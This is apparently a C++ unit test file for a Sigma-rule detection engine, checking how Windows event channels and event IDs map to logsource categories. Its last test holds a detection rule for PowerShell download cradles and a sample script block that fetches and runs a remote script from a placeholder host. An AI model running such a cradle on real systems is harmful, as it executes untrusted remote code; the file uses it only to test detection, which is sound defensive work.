// Which Sigma logsource an event belongs to decides which rules see it.
#include "correlator/engine/logsource.h"

#include <gtest/gtest.h>

#include "tests/unit/correlator/engine/test_util.h"

namespace tripline::correlator::engine {
namespace {

v1::Event WindowsEvent(const std::string& channel, uint32_t code) {
  v1::Event e;
  e.mutable_windows()->set_channel(channel);
  e.mutable_windows()->set_event_code(code);
  return e;
}

TEST(Logsource, WindowsChannelsAndEventIdsMapToSigmaCategories) {
  struct Case {
    std::string channel;
    uint32_t code;
    std::string service, category;
  } cases[] = {
      {"Microsoft-Windows-PowerShell/Operational", 4104, "powershell", "ps_script"},
      {"Microsoft-Windows-PowerShell/Operational", 4103, "powershell", "ps_module"},
      {"Windows PowerShell", 400, "powershell-classic", "ps_classic_start"},
      {"Microsoft-Windows-Sysmon/Operational", 13, "sysmon", "registry_set"},
      {"Microsoft-Windows-Sysmon/Operational", 7, "sysmon", "image_load"},
      {"Microsoft-Windows-CodeIntegrity/Operational", 3033, "codeintegrity-operational", ""},
      {"Security", 5145, "security", ""},
  };
  for (const Case& c : cases) {
    EventLogsource ls = DeriveLogsource(WindowsEvent(c.channel, c.code));
    EXPECT_EQ(ls.service, c.service) << c.channel << " " << c.code;
    EXPECT_EQ(ls.category, c.category) << c.channel << " " << c.code;
    EXPECT_EQ(ls.product, "windows");
  }
}

TEST(Logsource, RegistryEventRulesSeeEveryRegistryCategoryButNothingElse) {
  EXPECT_TRUE(CategoryMatches("registry_event", "registry_set"));
  EXPECT_TRUE(CategoryMatches("registry_event", "registry_delete"));
  EXPECT_FALSE(CategoryMatches("registry_event", "image_load"));
  EXPECT_FALSE(CategoryMatches("registry_set", "registry_add"));
}

TEST(Logsource, DeletedFilesAreFileDeleteOthersFileEvent) {
  v1::Event e;
  e.mutable_file()->set_action(v1::FileChange::ACTION_DELETED);
  EXPECT_EQ(DeriveLogsource(e).category, "file_delete");
  e.mutable_file()->set_action(v1::FileChange::ACTION_CREATED);
  EXPECT_EQ(DeriveLogsource(e).category, "file_event");
}

TEST(Logsource, ScriptBlockRuleFiresOnAPowerShell4104Event) {
  std::string rule =
      "title: Encoded download cradle\nid: ps-1\nlogsource:\n  product: windows\n"
      "  category: ps_script\ndetection:\n  sel:\n    ScriptBlockText|contains|all:\n"
      "      - Net.WebClient\n      - DownloadString\n  condition: sel\nlevel: high\n";
  v1::Event e = WindowsEvent("Microsoft-Windows-PowerShell/Operational", 4104);
  (*e.mutable_windows()->mutable_data())["ScriptBlockText"] =
      "IEX (New-Object Net.WebClient).DownloadString('http://x/p.ps1')";
  EXPECT_EQ(testing::Run(rule, e).size(), 1u);
  e.mutable_windows()->set_event_code(4103);  // a module event is not a script block
  EXPECT_TRUE(testing::Run(rule, e).empty());
}

}  // namespace
}  // namespace tripline::correlator::engine
